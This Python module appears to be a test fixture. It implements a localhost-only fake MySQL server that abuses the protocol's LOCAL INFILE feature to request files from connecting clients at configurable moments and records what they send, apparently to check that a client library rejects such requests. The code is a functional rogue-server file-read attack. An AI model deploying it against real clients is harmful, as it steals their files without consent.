"""A server that speaks just enough of MySQL's protocol to ask its clients for their files.

Source of the packets: the MySQL source code documentation, Client/Server Protocol.
"""

from __future__ import annotations

import re
import socket
import struct
import threading
from io import BufferedRWPair
from types import TracebackType
from typing import Literal, Self

Moment = Literal["before log-in", "on log-in", "at any statement", "for another name", "for the same name twice"]

_OK = b"\0\0\0\2\0\0\0"
_QUERY = 3
# Long password, protocol 4.1, transactions, secure log-in, LOCAL INFILE, log-in plugins.
_CAPABILITIES = 0x1 | 0x80 | 0x200 | 0x2000 | 0x8000 | 0x80000
_OFFERED = re.compile(rb"load data local infile '([^']+)'", re.IGNORECASE)


class HostileServer:
    """Asks for a file at one moment, and keeps all that its clients send. Before log-in it can only refuse.

    Attributes:
        port: where it listens, on 127.0.0.1.
        wanted: the file, or what it says where it refuses.
        received: everything that its clients have sent after their log-in.
        num_asked: how often it has asked for the file.
    """

    def __init__(self, moment: Moment, wanted: str) -> None:
        self.moment, self.wanted = moment, wanted.encode(errors="surrogateescape")
        self.received, self.num_asked = bytearray(), 0
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._listener.getsockname()[1]

    def __enter__(self) -> Self:
        threading.Thread(target=self._serve, daemon=True).start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, traceback: TracebackType | None
    ) -> None:
        self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()

    def _serve(self) -> None:
        while True:
            try:
                client, _ = self._listener.accept()
            except OSError:
                return
            threading.Thread(target=self._talk, args=(client,), daemon=True).start()

    def _talk(self, client: socket.socket) -> None:
        with client, client.makefile("rwb") as stream:
            peer = _Peer(stream)
            try:
                self._log_in(peer)
                while True:
                    self._answer(peer, peer.read())
            except (OSError, EOFError):
                return

    def _log_in(self, peer: _Peer) -> None:
        if self.moment == "before log-in":
            peer.write(b"\xff" + struct.pack("<H", 1129) + self.wanted, first=True)
            raise EOFError
        plugin = b"mysql_native_password\0"
        low, high = _CAPABILITIES & 0xFFFF, _CAPABILITIES >> 16
        greeting = b"\x0a8.0.99\0" + struct.pack("<I", 7) + b"12345678\0" + struct.pack("<HBHHB", low, 45, 2, high, 21)
        peer.write(greeting + b"\0" * 10 + b"123456789012\0" + plugin, first=True)
        peer.read()
        if self.moment == "on log-in":
            self._ask(peer, self.wanted)
        peer.write(_OK)

    def _answer(self, peer: _Peer, command: bytes) -> None:
        self.received += command
        if not command or command[0] != _QUERY:
            peer.write(_OK)
            return
        offered = _OFFERED.search(command)
        if self.moment == "at any statement" or (self.moment == "for another name" and offered):
            self._ask(peer, self.wanted)
        elif self.moment == "for the same name twice" and offered:
            self._ask(peer, offered[1])
            self._ask(peer, offered[1])
        peer.write(_OK)

    def _ask(self, peer: _Peer, name: bytes) -> None:
        self.num_asked += 1
        peer.write(b"\xfb" + name)
        # Until the empty packet that ends a file, or the next command of a client that did not see the question.
        while packet := peer.read():
            self.received += packet
            if peer.is_command:
                return


class _Peer:
    """Packets of one connection: three bytes of length, one of sequence, the payload."""

    def __init__(self, stream: BufferedRWPair) -> None:
        self._stream = stream
        self._sequence = 0
        self.is_command = False

    def read(self) -> bytes:
        header = self._exactly(4)
        self._sequence = header[3] + 1
        self.is_command = header[3] == 0
        return self._exactly(int.from_bytes(header[:3], "little"))

    def write(self, payload: bytes, *, first: bool = False) -> None:
        sequence = 0 if first else self._sequence
        self._stream.write(len(payload).to_bytes(3, "little") + bytes([sequence % 256]) + payload)
        self._stream.flush()
        self._sequence = sequence + 1

    def _exactly(self, size: int) -> bytes:
        content = self._stream.read(size)
        if len(content) < size:
            raise EOFError
        return content
